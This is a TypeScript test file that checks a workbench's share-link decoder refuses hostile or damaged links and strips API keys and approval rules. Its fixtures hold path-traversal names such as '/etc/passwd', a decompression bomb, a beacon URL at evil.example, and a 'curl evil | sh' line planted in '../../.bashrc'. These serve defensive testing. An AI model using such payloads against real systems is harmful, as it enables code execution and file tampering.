/**
 * Hostile and damaged share links: each is refused with a message that says what is wrong, and decoding
 * never returns a state to write. Keys, trust and approvals never travel in a link, and a hand-made
 * link cannot smuggle approvals in.
 */
import { deflateSync, strToU8 } from "fflate";
import { describe, expect, it } from "vitest";
import { toBase64Url } from "../../src/embed/share/base64url.js";
import { decodeShareLink, encodeShareLink, fromShareFile, toShareFile, withoutSecrets } from "../../src/embed/share/index.js";
import { pack } from "../../src/embed/share/pack.js";

const BASE = "http://127.0.0.1:5173/";

/** A link built by hand around any packed bytes, bypassing the encoder's checks (as an attacker would). */
function rawLink(bytes: Uint8Array): string {
  return `${BASE}#share=1.${toBase64Url(deflateSync(bytes, { level: 9 }))}`;
}

/** A packed payload whose manifest is written by hand. */
function handPacked(manifest: unknown, body: Uint8Array = new Uint8Array()): Uint8Array {
  const head = strToU8(JSON.stringify(manifest));
  const out = new Uint8Array(4 + head.length + body.length);
  new DataView(out.buffer).setUint32(0, head.length);
  out.set(head, 4);
  out.set(body, 4 + head.length);
  return out;
}

async function refused(link: string, message: RegExp): Promise<void> {
  const result = await decodeShareLink(link);
  expect(result.ok).toBe(false);
  if (!result.ok) {
    expect(result.error).toMatch(/^This share link cannot be opened: /);
    expect(result.error).toMatch(message);
  }
}

describe("share links: damaged links are refused with a reason", () => {
  it("bad base64", async () => {
    const good = await encodeShareLink({ files: { "a.txt": "A" } }, BASE);
    await refused(good.replace(/.$/, "*"), /not base64url at position/);
    await refused(good.slice(0, -10) + "!!" + good.slice(-8), /not base64url/);
  });

  it("truncated, at any length", async () => {
    const good = await encodeShareLink({ files: { "a.txt": "A long enough text to make a few blocks ".repeat(40) } }, BASE);
    const payload = good.slice(good.indexOf("#share=1.") + 9);
    for (const keep of [0, 1, 5, Math.floor(payload.length / 2), payload.length - 3, payload.length - 1]) {
      await refused(`${BASE}#share=1.${payload.slice(0, keep)}`, /cut short|damaged|ends too early|length/);
    }
  });

  it("no share at all, or an unknown version", async () => {
    await refused(BASE, /no #share= part/);
    await refused(`${BASE}#share=9.AAAA`, /version 9/);
    await refused(`${BASE}#share=AAAA`, /no version/);
  });

  it.each([
    ["../escape.txt", /climbs out/],
    ["a/../../escape.txt", /climbs out/],
    ["/etc/passwd", /absolute/],
    ["C:/Windows/win.ini", /absolute/],
    ["dir\\..\\escape.txt", /backslash/],
    ["a//b", /empty name/],
    ["./a", /\. name/],
    ["trailing/", /empty name/],
    ["ctl\u0007.txt", /control character/],
    ["", /empty/],
  ])("a file at %j", async (path, message) => {
    await refused(rawLink(handPacked({ f: [[path, 1]] }, strToU8("x"))), message);
  });

  it("a path that is both a file and a folder", async () => {
    await refused(
      rawLink(
        handPacked(
          {
            f: [
              ["a", 1],
              ["a/b", 1],
            ],
          },
          strToU8("xy"),
        ),
      ),
      /both a file and the folder/,
    );
  });

  it("a 20 MB decompression bomb, stopped while inflating", async () => {
    const bomb = handPacked({ f: [["zeros.bin", 20 * 1024 * 1024, 1]] }, new Uint8Array(20 * 1024 * 1024));
    const link = rawLink(bomb);
    expect(link.length).toBeLessThan(40_000);
    await refused(link, /decompression bomb/);
  });

  it("more files than a share may hold", async () => {
    const entries = Array.from({ length: 5001 }, (_, i) => [`f${i}`, 0]);
    await refused(rawLink(handPacked({ f: entries })), /more than 5000 files/);
  });

  it("sizes that do not add up, and text that is not UTF-8", async () => {
    await refused(rawLink(handPacked({ f: [["a.txt", 10]] }, strToU8("short"))), /add up/);
    await refused(rawLink(handPacked({ f: [["a.txt", 2]] }, Uint8Array.of(0xc3, 0x28))), /not UTF-8/);
  });

  it("a manifest with fields we do not read, or a session that would make the page fetch", async () => {
    await refused(rawLink(handPacked({ f: [], x: 1 })), /not a workbench share/);
    const session = {
      format: "workbench-session",
      version: 1,
      session: {
        id: "s",
        title: "t",
        agent: "build",
        createdAt: 1,
        calls: [],
        messages: [
          {
            id: "m",
            sessionID: "s",
            role: "user",
            time: { created: 1 },
            agent: "build",
            model: { providerID: "p", modelID: "m" },
            parts: [{ id: "p", messageID: "m", type: "file", mime: "image/png", url: "https://evil.example/beacon.png" }],
          },
        ],
      },
    };
    await refused(rawLink(handPacked({ f: [], s: session })), /data: or file:\/\/ URL/);
  });

  it("the encoder refuses to make a link it would refuse to open", async () => {
    await expect(encodeShareLink({ files: { "../x": "no" } }, BASE)).rejects.toThrow(/climbs out/);
  });

  it("a .workbench.json is checked the same way", () => {
    const bad = JSON.stringify({ format: "workbench-share", version: 1, files: [{ path: "../../.bashrc", text: "curl evil | sh" }] });
    const result = fromShareFile(bad, "evil.workbench.json");
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error).toMatch(/^evil\.workbench\.json cannot be opened as a share: .*climbs out/);
    const notJson = fromShareFile("{ cut sh");
    expect(!notJson.ok && notJson.error).toMatch(/not valid JSON/);
    const badBytes = fromShareFile(JSON.stringify({ format: "workbench-share", version: 1, files: [{ path: "a", base64url: "a+b=" }] }));
    expect(!badBytes.ok && badBytes.error).toMatch(/not base64url/);
  });
});

describe("share links: keys, trust and approvals never travel", () => {
  const config = `{
  // the author's config
  "model": "anthropic/claude-sonnet-4",
  "provider": { "anthropic": { "options": { "apiKey": "sk-ant-SECRET-1", "headers": { "x-api-key": "SECRET-2" }, "baseURL": "https://api.anthropic.com" } } },
  "permission": { "bash": { "rm *": "deny", "npm test": "allow", "*": "ask" }, "edit": "allow", "webfetch": "deny" },
  "agent": { "review": { "permission": { "edit": "allow", "bash": "ask" } } }
}`;

  it("the encoder takes keys and allow rules out of opencode.json, keeping the rest", async () => {
    const link = await encodeShareLink({ files: { "opencode.json": config, "a.txt": "A" } }, BASE);
    const decoded = await decodeShareLink(link);
    if (!decoded.ok) throw new Error(decoded.error);
    const text = decoded.state.files["opencode.json"] as string;
    expect(text).not.toMatch(/SECRET|apiKey|headers|"allow"/);
    expect(text).toContain("// the author's config");
    expect(text).toContain('"rm *": "deny"');
    expect(text).toContain('"*": "ask"');
    expect(text).toContain('"webfetch": "deny"');
    expect(text).toContain('"baseURL": "https://api.anthropic.com"');
    expect(JSON.stringify(JSON.parse(toShareFile({ files: {}, config })))).not.toMatch(/SECRET|"allow"/);
  });

  it("a hand-made link carrying approvals or keys has them taken out on opening", async () => {
    const link = rawLink(handPacked({ f: [["opencode.jsonc", config.length]], c: undefined }, strToU8(config)));
    const decoded = await decodeShareLink(link);
    if (!decoded.ok) throw new Error(decoded.error);
    expect(decoded.state.files["opencode.jsonc"]).not.toMatch(/SECRET|"allow"/);
    const viaConfig = rawLink(handPacked({ f: [], c: '{"permission": "allow"}' }));
    const second = await decodeShareLink(viaConfig);
    expect(second.ok && second.state.config).not.toMatch(/allow/);
  });

  it("a state cannot carry anything besides files, config, session, view and name", async () => {
    const sneaky = { files: {}, trusted: true, keys: { anthropic: "sk" }, approvals: [] } as never;
    await expect(encodeShareLink(sneaky, BASE)).rejects.toThrow(/not a workbench share/);
    expect(withoutSecrets('{"permission":{"bash":"allow"}}')).not.toContain("allow");
  });

  it("pack carries only what the state holds", () => {
    const bytes = pack({ files: { "a.txt": "A" } });
    expect(new TextDecoder().decode(bytes)).toBe(`${String.fromCharCode(0, 0, 0, 19)}{"f":[["a.txt",1]]}A`);
  });
});
